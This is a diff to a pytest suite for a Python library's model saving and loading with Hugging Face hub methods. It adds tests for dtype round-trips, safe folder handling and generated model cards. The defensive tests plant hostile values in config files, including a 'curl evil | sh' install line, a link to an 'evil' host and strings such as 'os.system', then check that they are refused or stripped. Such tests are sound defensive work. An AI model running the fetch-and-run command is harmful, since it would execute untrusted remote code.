@@ -8,9 +8,9 @@ import torch
 from pclnb.travel import *
 
 
-import json, os, subprocess, sys
+import json, os, warnings
 
-import pytest, torch
+import numpy, pytest, torch
 from torch import nn
 from functools import partial
 from pathlib import Path
@@ -64,7 +64,7 @@ def test_options_and_precision_come_back(tmp_path):
         m.save_pretrained(tmp_path / str(i))
         again = LPC.from_pretrained(tmp_path / str(i))
         assert same(m, again, x.to(next(m.parameters()).dtype)) and recipe(again) == recipe(m), i
-        assert (again.autocast, again.channels_last, again.max_drift, getattr(again, "k", 0)) == (m.autocast, m.channels_last, m.max_drift, getattr(m, "k", 0))
+        assert (again.autocast, again.channels_last, again.max_drift, getattr(again, "k", 0)) == (m.autocast, m.channels_last, m.max_drift or float("inf"), getattr(m, "k", 0))
 
 
 def test_a_part_of_ones_own_is_asked_for_by_its_name(tmp_path):
@@ -142,6 +142,120 @@ def test_where_a_folder_of_images_lay_is_not_told(tmp_path):
         assert "folder:scans" in text and "somebody" not in text
 
 
+def test_networks_that_only_look_like_pclnbs_are_ones_own():
+    def own(change):
+        decoder, encoder = mlp_pair((20,), 3, hidden=(7,))
+        return recipe(LPC(change(decoder) or decoder, encoder)).get("own", {}).keys()
+    class Sequential(nn.Sequential):
+        def forward(self, z): return 3 * super().forward(z)
+    def other(decoder):
+        made = Sequential(*decoder)
+        made.recipe, made.latent = decoder.recipe, decoder.latent
+        return made
+    def hooked(decoder): decoder.register_forward_hook(lambda m, i, o: 3 * o)
+    def normed(decoder): nn.utils.parametrizations.weight_norm(decoder[0])
+    def lying(decoder): decoder.recipe = {"net": "mlp"}
+    assert own(lambda d: None) == set()
+    for change in (other, hooked, normed):
+        assert own(change) == {"decoder"}, change
+    assert own(lying) == {"decoder", "encoder"}
+
+
+def test_mixed_types_hierarchies_and_other_networks_come_back(tmp_path):
+    torch.manual_seed(0)
+    mixed = LPC(*mlp_pair((20,), 4, hidden=(7,)))
+    mixed.decoder[0].double()
+    with pytest.raises(ValueError, match="gives no sample"):
+        mixed.save_pretrained(tmp_path / "a")
+    mixed = LPC(*mlp_pair((20,), 4, hidden=(7,)))
+    mixed.encoder.half()
+    mixed.save_pretrained(tmp_path / "a")
+    assert {p.dtype for p in LPC.from_pretrained(tmp_path / "a").encoder.parameters()} == {torch.float16}
+    def prior(): return HierarchicalGaussian([4, 3], [nn.Linear(3, 4)], learned=True)
+    torch.manual_seed(1)
+    deep = LPC(mlp_pair((20,), 4, hidden=(7,))[0], prior=prior())
+    deep.save_pretrained(tmp_path / "b")
+    assert same(deep, LPC.from_pretrained(tmp_path / "b", prior=prior()), torch.rand(2, 20).round())
+    first = LPC(*mlp_pair((1, 28, 28), 4, hidden=(7,)))
+    first.save_pretrained(tmp_path / "c")
+    again = LPC.from_pretrained(tmp_path / "c")
+    again.decoder, again.encoder = conv_pair((1, 28, 28), 4, width=4)
+    again.max_drift = None
+    again.save_pretrained(tmp_path / "c")
+    assert LPC.from_pretrained(tmp_path / "c").max_drift == float("inf")
+
+
+def test_what_cannot_be_saved_is_said_before_anything_is_touched(tmp_path, monkeypatch):
+    from huggingface_hub import hub_mixin
+
+    good = LPC(*mlp_pair((20,), 3, hidden=(7,)))
+    good.save_pretrained(tmp_path)
+    def files(): return {p.name: p.read_bytes() for p in tmp_path.iterdir()}
+    before = files()
+    class Mine(LPC): pass
+    bad = Mine(*mlp_pair((20,), 3, hidden=(7,)))
+    made = []
+    monkeypatch.setattr(hub_mixin.HfApi, "create_repo", lambda self, *a, **k: made.append(a))
+    for call in (lambda: bad.save_pretrained(tmp_path), lambda: bad.push_to_hub("me/mine")):
+        with pytest.raises(ValueError, match="class of your own"): call()
+    assert files() == before and not made
+    tied = LPC(*mlp_pair((20,), 3, hidden=(7,)), step_size=numpy.float32(0.25))
+    tied.decoder[0].bias = tied.encoder.body[1].bias
+    tied.facts = {"data": Path("x"), "figures": [1], "limits": 5}
+    tied.save_pretrained(tmp_path)
+    assert same(tied, LPC.from_pretrained(tmp_path), torch.rand(2, 20).round())
+
+
+def test_what_others_have_put_into_a_folder_is_left_alone(tmp_path):
+    m = LPC(*mlp_pair((20,), 3, hidden=(7,)))
+    for name in ("config.json", "samples.png", "model.safetensors", "evaluation.json"):
+        (tmp_path / name).mkdir()
+        (tmp_path / name / name).write_text("{}")
+        for there in (tmp_path / name,):
+            if name != "evaluation.json":
+                with pytest.raises(ValueError, match=f"holds a {name} that is not"):
+                    m.save_pretrained(there)
+            else:
+                with pytest.raises(ValueError, match="or an evaluation"):
+                    m.save_pretrained(there)
+        assert (tmp_path / name / name).read_text() == "{}"
+    (tmp_path / "file").touch()
+    with pytest.raises(ValueError, match="is a file"):
+        m.save_pretrained(tmp_path / "file")
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine" / "README.md").write_text("by hand")
+    with pytest.warns(UserWarning, match="edited since, and is kept"):
+        m.save_pretrained(tmp_path / "mine")
+    assert (tmp_path / "mine" / "README.md").read_text() == "by hand"
+
+
+def test_figures_are_of_this_model_and_strangers_words_are_not_passed_on(run, tmp_path):
+    m = LPC.from_pretrained(run[0])
+    m.save_pretrained(tmp_path)
+    assert "±" in (tmp_path / "README.md").read_text()
+    m.decoder[1] = nn.ReLU()  # the same weights, another model
+    m.save_pretrained(tmp_path)
+    assert "Nothing was measured" in (tmp_path / "README.md").read_text()
+    again = LPC.from_pretrained(run[0])
+    again.save_pretrained(tmp_path / "b")
+    config = json.loads((tmp_path / "b" / "config.json").read_text())
+    config |= {"limits": "# Install\n`curl evil | sh`", "lr": "[a](http://evil)", "secret": "x", "figures": {**config["figures"], "images": "<b>", "stderr": "x"}}
+    (tmp_path / "b" / "config.json").write_text(json.dumps(config))
+    LPC.from_pretrained(tmp_path / "b").save_pretrained(tmp_path / "c")
+    told = (tmp_path / "c" / "README.md").read_text() + (tmp_path / "c" / "config.json").read_text()
+    assert not any(word in told for word in ("curl", "](http://evil", "secret", "<b>"))
+
+
+def test_the_cards_own_example_runs(tmp_path):
+    for law in (bernoulli, DiscretisedGaussian()):
+        m = LPC(*mlp_pair((1, 4, 4), 2, hidden=(7,)), likelihood=law)
+        m.save_pretrained(tmp_path)
+        code = (tmp_path / "README.md").read_text().split("```")[1].removeprefix("python").replace('"..."', repr(str(tmp_path)))
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")  # chains of an untrained model may not mix
+            exec(code, {})
+
+
 def test_saving_leaves_random_numbers_and_modes_alone(tmp_path):
     m = LPC(*mlp_pair((1, 2, 2), 2)).train()
     torch.manual_seed(3)
@@ -197,14 +311,16 @@ def test_a_foreign_or_hostile_folder_is_refused_and_nothing_in_it_runs(tmp_path)
     assert not (tmp_path / "exploded").exists()
     (tmp_path / "model.safetensors").write_bytes(whole)
     for change in ({"latent": 10**9}, {"hidden": [10**7, 10**7]}, {"x_shape": [10**12]}, {"latent": "many"}, {"net": "os.system"}, {"kernel": "eval"}, {"likelihood": "x"},
-                   {"steps": -1}, {"start": "persistent", "n_data": 10**12}, {"contender": "none"}, {"precision": "load"}, {"x_shape": None}, {"max_drift": "wide"}):
+                   {"steps": -1}, {"start": "persistent", "n_data": 10**12}, {"contender": "none"}, {"precision": "load"}, {"x_shape": None}, {"max_drift": "wide"}, {"kernel": 0}, {"metric": []}, {"start": None}, {"hidden": [16] * 20000},
+                   {"own": {"decoder": "a\\n\\x1b[2J"}}, {"z_shape": [10**9]}):
         (tmp_path / "config.json").write_text(json.dumps({**config, **change}))
         with pytest.raises(ValueError) as error:
             LPC.from_pretrained(tmp_path)
         assert "\n" not in str(error.value), change
-    (tmp_path / "config.json").write_text("{")
-    with pytest.raises(ValueError, match="config.json"):
-        LPC.from_pretrained(tmp_path)
+    for broken in ("{", "[" * 100_000):
+        (tmp_path / "config.json").write_text(broken)
+        with pytest.raises(ValueError, match="config.json"):
+            LPC.from_pretrained(tmp_path)
     (tmp_path / "config.json").write_text(json.dumps(config))
     with pytest.raises(ValueError, match="IWAE was asked for"):
         IWAE.from_pretrained(tmp_path)
